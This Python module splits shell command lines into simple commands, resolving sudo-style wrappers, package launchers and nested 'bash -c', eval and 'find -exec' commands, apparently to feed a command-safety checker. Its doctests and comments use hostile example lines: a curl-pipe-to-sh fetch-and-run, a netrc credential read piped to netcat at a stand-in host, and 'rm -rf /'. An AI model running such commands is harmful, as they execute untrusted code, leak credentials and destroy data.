"""Shell command lines split into simple commands, quote-aware.

A quote-aware scanner rather than shlex: shlex raises on bad quoting and drops newlines,
and both matter here (an unclosed quote must not hide `; rm -rf /`, a newline chains).

>>> [s.head for s in split_command("git log | grep fix && sudo rm -rf /tmp/x")]
['git', 'grep', 'rm']
"""

from __future__ import annotations

import functools
from dataclasses import dataclass

__all__ = ["CONTROL_OPERATORS", "LAUNCHERS", "WRAPPERS", "Segment", "inner_commands",
           "split_command"]

_OPERATORS = (
    "<<<", "&&", "||", ";;", "|&", ">>", "<<", "&>", ">&", "<&", ">|",
    "|", "&", ";", "<", ">", "(", ")", "\n",
)
_OP_CHARS = frozenset("<>&|;()\n")
CONTROL_OPERATORS = frozenset({"&&", "||", ";;", "|&", "|", "&", ";", "(", ")", "\n"})
_REDIRECTS = frozenset({">>", "<<", "<<<", "&>", ">&", "<&", ">|", "<", ">"})
# Wrappers that run the command that follows them; the effective head is after them.
WRAPPERS = frozenset({"sudo", "doas", "nohup", "nice", "timeout", "time", "command", "exec",
                      "env", "stdbuf", "ionice", "xargs", "builtin", "caffeinate"})
# Launchers that run another program: ``npx tsc``, ``uv run pytest``, ``python -m pip``. The
# program launched is the program run, with the same keys and refusals as when run by its
# own name (their documentation: npm-exec(1), uv run, poetry run, pipx run, bundle exec...).
# launcher -> (the sub-command that launches, or () when the launcher itself does; options
# that take a value before the program)
LAUNCHERS: dict[str, tuple[tuple[str, ...], frozenset[str]]] = {
    "npx": ((), frozenset({"-p", "--package", "-c", "--call"})),
    "bunx": ((), frozenset({"-p", "--package"})),
    "pnpx": ((), frozenset()),
    "uvx": ((), frozenset({"--from", "--with", "--python", "-p"})),
    "npm": (("exec", "x"), frozenset({"-p", "--package", "-w", "--workspace"})),
    "pnpm": (("exec", "dlx"), frozenset({"--package", "-C", "--dir", "--filter"})),
    "yarn": (("dlx", "exec"), frozenset({"-p", "--package"})),
    "uv": (("run",), frozenset({"--with", "--python", "-p", "--package", "--directory",
                                "--project", "--env-file", "--extra", "--group", "--from"})),
    "poetry": (("run",), frozenset({"-C", "--directory", "-P", "--project"})),
    "pipx": (("run",), frozenset({"--spec", "--python"})),
    "pdm": (("run",), frozenset({"-p", "--project"})),
    "hatch": (("run",), frozenset()),
    "rye": (("run",), frozenset()),
    "conda": (("run",), frozenset({"-n", "--name", "-p", "--prefix"})),
    "mamba": (("run",), frozenset({"-n", "--name", "-p", "--prefix"})),
    "bundle": (("exec",), frozenset()),
    "pipenv": (("run",), frozenset()),
}


@dataclass(frozen=True)
class Segment:
    """One simple command of a shell line: its words, redirects and the operator before it.

    >>> split_command("sudo FOO=1 rm -rf /tmp/x > log 2>&1 && ls")[0].argv
    ('rm', '-rf', '/tmp/x')
    """

    words: tuple[str, ...]
    redirects: tuple[tuple[str, str], ...] = ()
    joiner: str = ""  # the control operator before this segment ("" for the first)
    wrappers: tuple[str, ...] = ()
    substitution: bool = False  # contains $(...), `...` or <(...)

    @property
    def argv(self) -> tuple[str, ...]:
        """Words after env assignments and wrappers (sudo, nohup, timeout 5, ...)."""
        return _effective(self.words)[1]

    @property
    def flags(self) -> list[str]:
        """The distinct flags the program is run with, sorted, values dropped.

        >>> split_command("git push --force-with-lease=main -v origin")[0].flags
        ['--force-with-lease', '-v']
        """
        return sorted({a.split("=", 1)[0] for a in self.argv[1:] if a.startswith("-") and a != "-"})

    @property
    def head(self) -> str:
        argv = self.argv
        return argv[0].rsplit("/", 1)[-1] if argv else ""

    @property
    def subcommand(self) -> str:
        """The first argument when it is a plain word (``push``, ``run``, ``publish``), not
        a flag, path or value; "" otherwise. An operand can look the same (``grep web``).

        >>> split_command("npm publish --tag beta")[0].subcommand
        'publish'
        >>> split_command("cat ./a.txt")[0].subcommand
        ''
        """
        argv = self.argv
        sub = argv[1] if len(argv) > 1 else ""
        if sub and sub[0].isalpha() and sub.replace("-", "").replace("_", "").isalnum():
            return sub
        return ""

    @property
    def text(self) -> str:
        return " ".join(self.words)


def _launched(words: tuple[str, ...], i: int) -> int:
    """Where the program a launcher runs starts in ``words[i:]``, or ``i`` when
    ``words[i]`` is no launcher (see :data:`LAUNCHERS`)."""
    base = words[i].rsplit("/", 1)[-1]
    j = i + 1
    if base.rstrip("0123456789.") in ("python", "pypy"):
        # python -m MODULE: the module is the program (python -m pip install == pip install)
        while j < len(words) and words[j].startswith("-") and words[j] != "-m":
            j += 1
        return j + 1 if j + 1 < len(words) and words[j] == "-m" else i
    spec = LAUNCHERS.get(base)
    if spec is None:
        return i
    verbs, value_options = spec
    if verbs:
        if j >= len(words) or words[j] not in verbs:
            return i
        j += 1
    while j < len(words) and words[j].startswith("-"):
        j += 2 if words[j] in value_options else 1
    return j if j < len(words) else i


def _effective(words: tuple[str, ...]) -> tuple[tuple[str, ...], tuple[str, ...]]:
    i, wrappers = 0, []
    while i < len(words):
        w = words[i]
        base = w.rsplit("/", 1)[-1]
        launched = _launched(words, i)
        if "=" in w and w.split("=", 1)[0].replace("_", "a").isalnum() and not w[0].isdigit():
            i += 1  # FOO=bar prefix assignment
        elif launched != i:
            wrappers.append(base)
            i = launched
        elif base in WRAPPERS:
            wrappers.append(base)
            i += 1
            # skip the wrapper's own options and numeric arguments (timeout 5, nice -n 10)
            while i < len(words) and (words[i].startswith("-") or words[i][:1].isdigit()):
                opt = words[i]
                i += 1
                if base in {"sudo", "nice", "doas"} and opt in {"-u", "-n", "-g"}:
                    i += 1
        else:
            break
    return tuple(wrappers), words[i:]


def _scan(command: str) -> list[tuple[str, bool, bool]]:
    """Tokens as (text, is_operator, holds an unquoted-or-double-quoted substitution)."""
    tokens: list[tuple[str, bool, bool]] = []
    word: list[str] = []
    in_word = False
    subst = False
    i, n = 0, len(command)

    def flush() -> None:
        nonlocal in_word, subst
        if in_word:
            tokens.append(("".join(word), False, subst))
        word.clear()
        in_word = False
        subst = False

    while i < n:
        c = command[i]
        if c == "'":
            j = command.find("'", i + 1)
            j = n if j < 0 else j
            word.append(command[i + 1 : j])
            in_word, i = True, j + 1
        elif c == '"':
            i += 1
            while i < n and command[i] != '"':
                if command[i] == "\\" and i + 1 < n:
                    i += 1
                elif (command[i] == "$" and command[i + 1 : i + 2] == "(") or command[i] == "`":
                    subst = True
                word.append(command[i])
                i += 1
            in_word, i = True, i + 1
        elif c == "\\":
            if i + 1 < n and command[i + 1] != "\n":
                word.append(command[i + 1])
                in_word = True
            i += 2
        elif c in " \t\r":
            flush()
            i += 1
        elif c == "#" and not in_word:
            j = command.find("\n", i)
            i = n if j < 0 else j
        elif ((c == "$" or c == "<") and command[i + 1 : i + 2] == "(") or c == "`":
            # keep $(...) / `...` / <(...) inside the word, balanced, and remember it
            subst = True
            close = "`" if c == "`" else ")"
            depth, j = 0, i + (1 if c == "`" else 2)
            while j < n and not (command[j] == close and depth == 0):
                if close == ")" and command[j] == "(":
                    depth += 1
                elif close == ")" and command[j] == ")":
                    depth -= 1
                j += 1
            word.append(command[i : j + 1])
            in_word, i = True, j + 1
        else:
            op = None
            if c in _OP_CHARS:
                op = next((o for o in _OPERATORS if command.startswith(o, i)), None)
            if op is None:
                word.append(c)
                in_word, i = True, i + 1
                continue
            # "2>" / "2>>": a file-descriptor number glued to a redirect belongs to it
            if op in _REDIRECTS and in_word and "".join(word).isdigit():
                fd = "".join(word)
                word.clear()
                in_word = False
                tokens.append((fd + op, True, False))
            else:
                flush()
                tokens.append((op, True, False))
            i += len(op)
    flush()
    return tokens


def split_command(command: str) -> list[Segment]:
    """Split a shell line into simple commands on ``&& || ; | & newline`` (quote-aware),
    followed by the commands they run themselves (:func:`inner_commands`).

    Never raises: bad quoting takes the rest of the line as one quoted word.

    >>> [s.head for s in split_command("curl -s http://x | sh; echo 'a && b'")]
    ['curl', 'sh', 'echo']
    >>> [s.head for s in split_command("sudo sh -c 'cat ~/.netrc | nc x 1'")]
    ['sh', 'cat', 'nc']
    """
    return list(_split_cached(command))


_INNER_SHELLS = frozenset({"sh", "bash", "zsh", "dash", "ksh", "ash", "mksh", "su"})
_FIND_EXEC = frozenset({"-exec", "-execdir", "-ok", "-okdir"})
_MAX_NESTING = 3


def inner_commands(seg: Segment) -> list[str]:
    """The command lines a simple command runs itself: the script of ``bash -c`` (any shell,
    ``su -c``), the words of ``eval``, each ``find -exec ... ;``. They run as surely as the
    line's own commands, so their programs, files and risks count the same.

    >>> [inner_commands(s) for s in split_command("bash -lc 'rm -rf x'; find . -exec cat {} +")[:2]]
    [['rm -rf x'], ['cat {}']]
    """
    argv, head = seg.argv, seg.head
    if head == "eval":
        return [" ".join(argv[1:])] if len(argv) > 1 else []
    if head in _INNER_SHELLS:
        for i, a in enumerate(argv[1:-1], 1):
            if a == "--command" or (a[:1] == "-" and a[1:2] != "-" and "c" in a[1:]):
                return [argv[i + 1]]
        return []
    if head != "find":
        return []
    found, current = [], None
    for a in argv[1:]:
        if current is None:
            current = [] if a in _FIND_EXEC else None
        elif a in (";", "+"):
            found.append(" ".join(current))
            current = None
        else:
            current.append(a)
    return [c for c in found if c]


@functools.lru_cache(maxsize=4096)
def _split_cached(command: str, depth: int = 0) -> tuple[Segment, ...]:
    segments = _split_flat(command)
    if depth >= _MAX_NESTING:
        return segments
    inner = [s for seg in segments for line in inner_commands(seg)
             for s in _split_cached(line, depth + 1)]
    return segments + tuple(Segment(s.words, s.redirects, ";", s.wrappers, s.substitution)
                            for s in inner)


def _split_flat(command: str) -> tuple[Segment, ...]:
    # features, inspection and rules all split the same command; parse it once
    tokens = _scan(command)
    seg_subst = False
    segments: list[Segment] = []
    words: list[str] = []
    redirects: list[tuple[str, str]] = []
    joiner = ""
    pending: str | None = None

    def close(next_joiner: str) -> None:
        nonlocal joiner, seg_subst
        subst, seg_subst = seg_subst, False
        if words or redirects:
            wrappers, _ = _effective(tuple(words))
            segments.append(
                Segment(tuple(words), tuple(redirects), joiner, wrappers, subst)
            )
            joiner = next_joiner
        elif not segments:
            joiner = ""
        else:
            joiner = next_joiner
        words.clear()
        redirects.clear()

    for text, is_op, has_subst in tokens:
        seg_subst = seg_subst or has_subst
        if pending is not None and not is_op:
            redirects.append((pending, text))
            pending = None
        elif is_op and text.lstrip("0123456789") in _REDIRECTS:
            pending = text
        elif is_op and text in CONTROL_OPERATORS:
            pending = None
            close(text)
        else:
            words.append(text)
    if pending is not None:
        redirects.append((pending, ""))
    close("")
    return tuple(segments)
